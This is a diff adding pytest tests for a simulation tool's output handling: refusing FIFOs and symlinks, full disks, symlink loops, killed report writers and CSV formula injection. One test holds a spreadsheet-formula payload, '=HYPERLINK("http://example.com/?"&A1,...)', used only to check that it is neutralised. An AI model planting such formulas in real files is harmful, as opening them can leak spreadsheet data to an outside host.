@@ -1,6 +1,10 @@
 """Stopping a run: SIGINT, SIGTERM and SIGKILL of `mechval` while an engine
 is busy, and SIGKILL of a busy worker. After each: the exit status, no
-process of the run left, no folder left behind.
+process of the run left, no folder left behind. Then faults of the places
+written (docs/comparison.md, "Output files"): a --csv that is a FIFO or a
+symlink, a full disk, a report folder written meanwhile, a symlink loop
+on the way, a report writer killed outright, a scenario name that a
+spreadsheet takes for a formula.
 
 The engine is the stand-in `busy`: it spins on the CPU and ignores SIGTERM,
 as an engine busy in C code does. `mechval run` runs as a command
@@ -271,3 +275,186 @@ def test_sigterm_while_the_report_is_written_leaves_no_folder(tmp_path, fakes, m
     assert status == 143
     assert capsys.readouterr().err == "mechval: stopped by SIGTERM\n"
     assert nothing_written(out)
+
+
+# --- Where the output goes: what the probe found (each failed before).
+
+@pytest.fixture
+def no_engine_work(monkeypatch):
+    """Fail if any engine (or the reference for a report) starts working."""
+    from mechval.harness import cli
+
+    def started(*args, **kwargs):
+        raise AssertionError("engine work started before the refusal")
+    for name in ("run_tasks", "references_for", "sweep", "simulate"):
+        monkeypatch.setattr(cli, name, started)
+
+
+def one_error_line(capsys) -> str:
+    captured = capsys.readouterr()
+    assert captured.err.startswith("mechval: error: ") and captured.err.count("\n") == 1, captured.err
+    return captured.err
+
+
+def test_csv_replaces_only_a_regular_file(tmp_path, fakes, no_engine_work, capsys):
+    """`--csv` renames over its path: a FIFO, a symlink (dangling or not)
+    and a folder are refused, as `--out` refuses what exists, and left as
+    they are (a device such as /dev/full was replaced by a file as root)."""
+    from mechval.harness import cli
+    target = tmp_path / "target.csv"
+    target.write_text("kept")
+    fifo, link, dangling, folder = (tmp_path / n for n in ("fifo.csv", "link.csv", "dangling.csv", "folder.csv"))
+    os.mkfifo(fifo)
+    link.symlink_to(target)
+    dangling.symlink_to(tmp_path / "nowhere.csv")
+    folder.mkdir()
+    for path, kind in ((fifo, "a FIFO"), (link, "a symlink"), (dangling, "a symlink"), (folder, "a folder")):
+        assert cli.main(["simulate", "slider-crank", "--engine", "faithful", "--csv", str(path)]) == 2, path
+        assert one_error_line(capsys) == (f"mechval: error: cannot write {path}: it is {kind}, and mechval "
+                                          "replaces only regular files\n")
+    assert fifo.is_fifo() and link.is_symlink() and dangling.is_symlink() and folder.is_dir()
+    assert target.read_text() == "kept"
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
+        ["busy", "target.csv", "fifo.csv", "link.csv", "dangling.csv", "folder.csv"])
+
+
+def test_a_file_made_meanwhile_is_not_replaced_unless_regular(tmp_path):
+    """The same rule at the rename itself (a FIFO made while the CSV was
+    being written), with the path the user named in the error."""
+    from mechval.signals import write_atomically
+    path = tmp_path / "x.csv"
+
+    def write(f):
+        f.write("t\n0\n")
+        os.mkfifo(path)
+    with pytest.raises(OSError) as refused:
+        write_atomically(path, write)
+    assert refused.value.filename == str(path) and "it is a FIFO" in refused.value.strerror
+    assert path.is_fifo() and [p.name for p in tmp_path.iterdir()] == ["x.csv"]
+
+
+def test_a_full_disk_names_the_path(tmp_path, fakes, monkeypatch, capsys):
+    """"No space left on device" once came without a path (the write's
+    OSError has none): it names the CSV, or the report folder, never a
+    temporary one, and leaves nothing behind."""
+    import errno
+    import pandas as pd
+    from mechval.harness import cli
+
+    def full(self, *args, **kwargs):
+        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
+    csv, out = tmp_path / "x.csv", tmp_path / "reports" / "r"
+    assert cli.main(["simulate", "slider-crank", "--engine", "faithful", "--csv", str(csv)]) == 2
+    assert one_error_line(capsys) == f"mechval: error: cannot write {csv}: No space left on device\n"
+    scene = short_scene(tmp_path, "short-a")
+    assert cli.main(["run", str(scene), "--engine", "faithful", "--workers", "1", "--out", str(out), "--quiet"]) == 2
+    assert one_error_line(capsys) == f"mechval: error: cannot write {out}: No space left on device\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["busy", "reports", "short-a.toml"]
+    assert nothing_written(out)
+
+
+def test_a_report_folder_written_meanwhile_is_named_not_the_temporary_one(tmp_path, fakes, monkeypatch, capsys):
+    """Two `mechval run` into one --out: the second to finish says the
+    folder exists (it named its own temporary folder) and leaves the
+    first's report as it is."""
+    from mechval.harness import cli
+    from mechval.reports import build
+    out = tmp_path / "reports" / "r"
+    section = build._scenario_section
+
+    def other_command_finishes_first(*args, **kwargs):
+        out.mkdir()
+        (out / "index.html").write_text("the other run's report")
+        return section(*args, **kwargs)
+    monkeypatch.setattr(build, "_scenario_section", other_command_finishes_first)
+    scene = short_scene(tmp_path, "short-a")
+    assert cli.main(["run", str(scene), "--engine", "faithful", "--workers", "1", "--out", str(out), "--quiet"]) == 2
+    err = one_error_line(capsys)
+    assert err.startswith(f"mechval: error: {out} exists") and "partial" not in err and ".r." not in err
+    assert [p.name for p in out.parent.iterdir()] == ["r"] and (out / "index.html").read_text() == "the other run's report"
+
+
+def test_a_symlink_loop_on_the_way_is_refused_before_any_engine_runs(tmp_path, fakes, no_engine_work, capsys):
+    from mechval.harness import cli
+    loop = tmp_path / "loop"
+    loop.symlink_to(loop)
+    commands = [["simulate", "slider-crank", "--engine", "faithful", "--csv", str(loop / "x.csv")],
+                ["run", "slider-crank", "--engine", "faithful", "--out", str(loop / "r"), "--quiet"],
+                ["cost", "slider-crank", "--engine", "faithful", "--out", str(loop / "deeper" / "c"), "--quiet"],
+                ["baseline", "save", "slider-crank", "--engine", "faithful", "--dir", str(loop / "b")]]
+    for command in commands:
+        assert cli.main(command) == 2, command
+        err = one_error_line(capsys)
+        assert "cannot write" in err and f"{loop}: Too many levels of symbolic links" in err, err
+
+
+KILLED_WRITER = """
+import os, signal, sys
+from mechval.signals import write_folder_atomically
+
+def fill(folder):
+    (folder / "index.html").write_text("half a report")
+    os.kill(os.getpid(), signal.SIGKILL)
+write_folder_atomically(sys.argv[1], fill)
+"""
+
+
+def test_a_killed_report_writer_leaves_a_folder_the_next_write_removes(tmp_path):
+    """SIGKILL runs no clean-up: the temporary folder stays. The next report
+    written into the same parent removes it, once it is unlocked (its
+    writer is gone) and has been left alone for STALE_AFTER_S; a live
+    writer's folder and anything mechval did not make stay."""
+    import fcntl
+    from mechval.outputs import STALE_AFTER_S, write_folder_atomically
+    parent = tmp_path / "reports"
+    killed = subprocess.run([sys.executable, "-c", KILLED_WRITER, str(parent / "first")], timeout=120)
+    assert killed.returncode == -signal.SIGKILL
+    (left,) = [p for p in parent.iterdir()]
+    assert left.name.startswith(".first.") and (left / "index.html").exists()
+    write_folder_atomically(parent / "second", lambda folder: None)
+    assert left.exists()                    # too fresh to tell from a writer that has not locked it yet
+    live = parent / ".third.abcd1234.mechval-partial"
+    live.mkdir()
+    holder = os.open(live, os.O_RDONLY)
+    fcntl.flock(holder, fcntl.LOCK_EX)      # as its live writer holds it
+    theirs = parent / ".notes"
+    theirs.mkdir()
+    try:
+        old = time.time() - 2 * STALE_AFTER_S
+        for path in (left, live, theirs):
+            os.utime(path, (old, old))
+        write_folder_atomically(parent / "fourth", lambda folder: None)
+    finally:
+        os.close(holder)
+    assert sorted(p.name for p in parent.iterdir()) == [".notes", live.name, "fourth", "second"]
+
+
+FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'
+
+
+def test_report_csvs_neutralise_what_a_spreadsheet_takes_for_a_formula(tmp_path, fakes, capsys):
+    """A scenario named =HYPERLINK(…) reached discrepancies.csv as a live
+    formula. Text cells starting with = + - @ tab or CR get a leading
+    apostrophe; numbers, negative ones included, stay numbers."""
+    import csv
+    import numpy as np
+    import pandas as pd
+    from mechval.harness import cli
+    from mechval.reports.cost_report import write_table
+    scene = short_scene(tmp_path, "short-a")
+    scene.write_text(scene.read_text().replace('name = "short-a"', f"name = '{FORMULA}'"))
+    out = tmp_path / "r"
+    assert cli.main(["run", str(scene), "--engine", "faithful", "--workers", "1", "--out", str(out), "--quiet"]) == 0
+    with (out / "discrepancies.csv").open(newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert rows and {row["scenario"] for row in rows} == {"'" + FORMULA}
+    assert "=HYPERLINK" not in "".join(v for row in rows for k, v in row.items() if k != "scenario")
+    # A carriage return inside a cell must not start a row of its own.
+    table = pd.DataFrame({"scenario": [FORMULA, "-x", "+x", "@x", "\tx", "\rx", "plain", "x=1", "a\r=1+1"],
+                          "error": [-1.5, -0.0, 2.0, -3e-300, 1.0, 0.0, -7.0, float("nan"), -2.0]})
+    write_table(table, tmp_path / "cost.csv")
+    back = pd.read_csv(tmp_path / "cost.csv", keep_default_na=False, na_values=[""])
+    assert list(back["scenario"]) == ["'" + FORMULA, "'-x", "'+x", "'@x", "'\tx", "'\rx", "plain", "x=1", "a\r=1+1"]
+    assert back["error"].dtype == float
+    np.testing.assert_array_equal(back["error"], table["error"])
